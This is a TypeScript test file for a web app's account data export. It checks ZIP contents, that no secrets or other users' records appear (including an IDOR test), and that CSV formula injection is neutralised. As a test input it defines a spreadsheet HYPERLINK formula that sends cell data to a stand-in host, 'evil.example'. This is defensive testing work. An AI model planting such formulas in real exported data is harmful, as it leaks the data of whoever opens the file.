import { strFromU8, unzipSync } from "fflate";
import { NextRequest } from "next/server";
import { describe, expect, it } from "vitest";
import { GET as exportRoute } from "@/app/api/account/export/route";
import { POST as generate } from "@/app/api/bio/generate/route";
import { POST as createProfile } from "@/app/api/profile/route";
import { createAbTest } from "@/lib/db/ab-tests";
import { replaceCalendarFeed } from "@/lib/db/calendar-feeds";
import { createCalendarItem } from "@/lib/db/calendar-items";
import { db } from "@/lib/db/client";
import { claimDailyXp } from "@/lib/db/gamification";
import { createShare } from "@/lib/db/shares";
import { createHashtagSet } from "@/lib/db/hashtag-sets";
import { createBrandVoice } from "@/lib/db/brand-voices";
import { createWorkflow } from "@/lib/db/workflows";
import { recordTrackEvent } from "@/lib/db/track-events";
import { callRoute } from "../support/call-route";
import { addLinkInBio } from "../support/link-in-bio";
import { registerUser } from "../support/users";

// "Download your data": a ZIP of JSON plus CSV per kind of record, safe to
// open in a spreadsheet, and only ever the signed-in user's own data.

const ORIGIN = "http://localhost:3000";
type User = Awaited<ReturnType<typeof registerUser>>;

const KINDS = [
  "user",
  "profile",
  "avatars",
  "generations",
  "usage",
  "sharedBios",
  "templateUses",
  "gamification",
  "activityDays",
  "badges",
  "challenges",
  "sessions",
  "apiTokens",
  "trackEvents",
  "pageEvents",
  "contactMessages",
  "newsletter",
  "linkPage",
  "pageLinks",
  "utmPresets",
  "linkEvents",
  "teamMemberships",
  "teamBios",
  "teamBioComments",
  "teamActivity",
  "teamInvites",
  "notifications",
  "abTests",
  "abVariants",
  "calendarItems",
  "calendarFeed",
  "workflows",
  "hashtagSets",
  "dailyXp",
  "stripeSubscriptions",
  "brandVoices",
];

async function download(headers: Record<string, string>, query = "") {
  const req = new NextRequest(`${ORIGIN}/api/account/export${query}`, { method: "GET", headers });
  const res = await exportRoute(req, { params: Promise.resolve({}) });
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, bytes };
}

function unzip(bytes: Uint8Array) {
  const files = unzipSync(bytes);
  return { names: Object.keys(files), text: (name: string) => strFromU8(files[name] ?? new Uint8Array()) };
}

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

async function userWithData(): Promise<{
  user: User;
  username: string;
  shareId: string;
  linkId: string;
  pageId: string;
}> {
  const user = await registerUser({ displayName: "Export Person" });
  const username = `exp_${Date.now().toString(36)}${Math.floor(Math.random() * 1e6)}`;
  const profile = await callRoute(createProfile, {
    path: "/api/profile",
    body: { username, displayName: "Export Person", bio: "=1+2 and @SUM(A1) in my bio" },
    headers: user.auth,
  });
  expect(profile.status, JSON.stringify(profile.body)).toBe(201);
  const generated = await callRoute(generate, {
    path: "/api/bio/generate",
    body: { description: "Florist in Kyoto who loves ikebana, tea and quiet mornings", tone: "poetic" },
    headers: user.auth,
  });
  expect(generated.status).toBe(200);
  const share = await createShare({ userId: user.user.id, description: "-2+3", tone: "bold", bio: FORMULA });
  await recordTrackEvent({ bioId: share.id, event: "click", source: "share-page" });
  const { linkId, pageId } = await addLinkInBio(user.user.id, user.auth);
  return { user, username, shareId: share.id, linkId, pageId };
}

/** One of each of the later features' records: an A/B test, a calendar item and feed, a workflow, daily XP, a subscription. */
async function addLaterRecords({ user, pageId }: { user: User; pageId: string }, label: string) {
  const userId = user.user.id;
  const test = await createAbTest({
    userId,
    pageId,
    kind: "page",
    name: `Test ${label}`,
    bios: [`A ${label}`, `B ${label}`],
  });
  if (test === "conflict") throw new Error("unexpected running test");
  const item = await createCalendarItem({
    userId,
    day: "2026-12-01",
    contentType: "reel",
    title: `Reel ${label}`,
    description: "",
    bio: "",
    hashtags: '["#bread"]',
    status: "planned",
  });
  const tokenHash = `feed-hash-${label}-${Math.random().toString(36).slice(2)}`;
  await replaceCalendarFeed({ userId, tokenHash });
  const workflow = await createWorkflow({ userId, templateId: "launch-week", title: `Launch ${label}` });
  const hashtagSet = await createHashtagSet({ userId, industry: "food", label: `Bakery ${label}`, tags: ["#bread"] });
  const voice = await createBrandVoice({ userId, name: `Voice ${label}`, samples: [`We bake for ${label}.`] });
  expect(await claimDailyXp({ userId, day: "2026-01-05", kind: `kind-${label}`, xp: 5, cap: 50 })).toBe(true);
  const customerId = `cus_${label}_${Math.random().toString(36).slice(2)}`;
  const subscriptionId = `sub_${label}_${Math.random().toString(36).slice(2)}`;
  await db.user.update({ where: { id: userId }, data: { stripeCustomerId: customerId }, select: { id: true } });
  await db.stripeSubscription.create({
    data: { id: subscriptionId, customerId, status: "premium", lastEventAt: new Date() },
    select: { id: true },
  });
  return {
    testId: test.id,
    variantIds: test.variants.map((v) => v.id),
    itemId: item.id,
    tokenHash,
    workflow,
    hashtagSetId: hashtagSet.id,
    voiceId: voice.id,
    subscriptionId,
  };
}

describe("GET /api/account/export", () => {
  it("is 401 signed out", async () => {
    const res = await download({});
    expect(res.status).toBe(401);
    expect(JSON.parse(new TextDecoder().decode(res.bytes))).toEqual({ message: "Please sign in to continue." });
  });

  it("answers a ZIP with data.json and a JSON and a CSV file per kind of record", async () => {
    const { user, username, shareId, linkId } = await userWithData();
    const res = await download(user.auth);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/zip");
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="biostudio-data-\d{4}-\d{2}-\d{2}\.zip"$/,
    );
    expect(res.headers.get("cache-control")).toContain("no-store");
    expect(Array.from(res.bytes.slice(0, 4))).toEqual([0x50, 0x4b, 0x03, 0x04]);

    const zip = unzip(res.bytes);
    expect(zip.names).toContain("data.json");
    expect(zip.names).toContain("README.txt");
    for (const kind of KINDS) {
      expect(zip.names, kind).toContain(`json/${kind}.json`);
      expect(zip.names, kind).toContain(`csv/${kind}.csv`);
    }

    const data = JSON.parse(zip.text("data.json")) as Record<string, unknown>;
    expect((data.user as { email: string }).email).toBe(user.email);
    expect((data.profile as { username: string }).username).toBe(username);
    expect(data.generations).toHaveLength(1);
    expect((data.sharedBios as { id: string }[]).map((s) => s.id)).toEqual([shareId]);
    expect(JSON.parse(zip.text("json/trackEvents.json"))).toEqual(
      expect.arrayContaining([expect.objectContaining({ bioId: shareId, event: "click" })]),
    );

    expect(data.linkPage).toMatchObject({ bio: "Fresh bread daily", theme: "dark" });
    expect(data.pageLinks).toEqual([
      expect.objectContaining({ id: linkId, title: "Order a loaf", url: "https://bakery.example/order" }),
    ]);
    expect(data.utmPresets).toEqual([expect.objectContaining({ name: "Bio link" })]);
    expect((data.linkEvents as { kind: string; linkId: string | null }[]).map((e) => [e.kind, e.linkId])).toEqual([
      ["view", null],
      ["click", linkId],
    ]);
    expect(zip.text("csv/pageLinks.csv")).toContain("Order a loaf");

    // No secrets leave the server, nor the page's visitors' hashes.
    expect(zip.text("data.json")).not.toContain("visitorHash");
    const everything = zip.names
      .filter((n) => !n.startsWith("avatars/"))
      .map(zip.text)
      .join("\n");
    expect(everything).not.toMatch(/passwordHash|tokenHash|\$argon2/);
    expect(everything).not.toContain(user.token);

    const generationsCsv = zip.text("csv/generations.csv");
    expect(generationsCsv.split("\r\n")[0]).toContain('"description"');
    expect(generationsCsv).toContain("Florist in Kyoto");
  });

  it("includes A/B tests, the calendar, workflows, daily XP and subscriptions, only the user's own", async () => {
    const alice = await userWithData();
    const bob = await userWithData();
    const mine = await addLaterRecords(alice, "alice");
    const theirs = await addLaterRecords(bob, "bob");
    // A subscription of a customer nobody at BioStudio is: tied to no user, in no export.
    await db.stripeSubscription.create({
      data: { id: `sub_orphan_${Date.now()}`, customerId: "cus_orphan", status: "premium", lastEventAt: new Date() },
      select: { id: true },
    });

    const zip = unzip((await download(alice.user.auth)).bytes);
    const data = JSON.parse(zip.text("data.json")) as Record<string, unknown>;
    expect(data.abTests).toEqual([
      expect.objectContaining({ id: mine.testId, pageId: alice.pageId, name: "Test alice", status: "running" }),
    ]);
    expect(data.abVariants).toEqual([
      expect.objectContaining({ id: mine.variantIds[0], testId: mine.testId, position: 0, bio: "A alice" }),
      expect.objectContaining({ id: mine.variantIds[1], testId: mine.testId, position: 1, bio: "B alice" }),
    ]);
    expect(data.calendarItems).toEqual([
      expect.objectContaining({ id: mine.itemId, day: "2026-12-01", contentType: "reel", title: "Reel alice" }),
    ]);
    expect(data.calendarFeed).toEqual({ on: true, createdAt: expect.any(String) as string });
    expect(data.workflows).toEqual([
      expect.objectContaining({ id: mine.workflow.id, templateId: "launch-week", title: "Launch alice" }),
    ]);
    expect(data.hashtagSets).toEqual([expect.objectContaining({ id: mine.hashtagSetId, label: "Bakery alice" })]);
    expect(data.brandVoices).toEqual([expect.objectContaining({ id: mine.voiceId, name: "Voice alice" })]);
    expect(data.dailyXp).toContainEqual({ day: "2026-01-05", kind: "kind-alice", xp: 5 });
    expect(data.stripeSubscriptions).toEqual([expect.objectContaining({ id: mine.subscriptionId, status: "premium" })]);
    expect(zip.text("csv/abVariants.csv")).toContain("B alice");
    expect(zip.text("csv/calendarItems.csv")).toContain("Reel alice");
    expect(zip.text("csv/calendarFeed.csv").split("\r\n")[0]).toBe('"on","createdAt"');

    const everything = zip.names.map(zip.text).join("\n");
    expect(everything).not.toContain(mine.tokenHash);
    expect(everything).not.toContain(theirs.tokenHash);
    expect(everything).not.toMatch(/tokenHash|feed-hash|cus_orphan|sub_orphan/);
    for (const other of [
      theirs.testId,
      ...theirs.variantIds,
      theirs.itemId,
      theirs.workflow.id,
      theirs.hashtagSetId,
      theirs.subscriptionId,
    ]) {
      expect(everything).not.toContain(other);
    }
    expect(everything).not.toMatch(/Test bob|A bob|Reel bob|Launch bob|Bakery bob|kind-bob/);
  });

  it("says the calendar feed is off when there is none", async () => {
    const { user } = await userWithData();
    const data = JSON.parse(unzip((await download(user.auth)).bytes).text("data.json")) as Record<string, unknown>;
    expect(data.calendarFeed).toEqual({ on: false, createdAt: null });
    expect(data.stripeSubscriptions).toEqual([]);
  });

  it("neutralises spreadsheet formulas in every CSV cell (= + - @ prefixed with ')", async () => {
    const { user } = await userWithData();
    const zip = unzip((await download(user.auth)).bytes);
    const shares = zip.text("csv/sharedBios.csv");
    expect(shares).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(shares).toContain(`"'-2+3"`);
    expect(shares).not.toMatch(/(^|,)"=/m);
    const profile = zip.text("csv/profile.csv");
    expect(profile).toContain(`"'=1+2 and @SUM(A1) in my bio"`);
    for (const name of zip.names.filter((n) => n.endsWith(".csv"))) {
      for (const line of zip.text(name).split("\r\n")) {
        // Every cell is quoted; none starts with a formula character once opened.
        expect(line, name).not.toMatch(/(^|,)"[=+\-@]/);
      }
    }
    // The JSON keeps the user's text exactly as written.
    expect(zip.text("json/sharedBios.json")).toContain(JSON.stringify(FORMULA).slice(1, -1));
  });

  it("IDOR: nobody downloads someone else's data, whatever they put in the query", async () => {
    const alice = await userWithData();
    const mallory = await registerUser({ displayName: "Mallory" });
    const res = await download(
      mallory.auth,
      `?userId=${alice.user.user.id}&email=${encodeURIComponent(alice.user.email)}`,
    );
    expect(res.status).toBe(200);
    const zip = unzip(res.bytes);
    const data = JSON.parse(zip.text("data.json")) as { user: { id: string; email: string } };
    expect(data.user.id).toBe(mallory.user.id);
    const everything = zip.names.map(zip.text).join("\n");
    expect(everything).not.toContain(alice.user.email);
    expect(everything).not.toContain(alice.user.user.id);
    expect(everything).not.toContain(alice.username);
    expect(everything).not.toContain(alice.shareId);
  });

  it("a bad or revoked token gets 401, never someone's ZIP", async () => {
    const res = await download({ authorization: "Bearer not-a-real-token" });
    expect(res.status).toBe(401);
  });
});
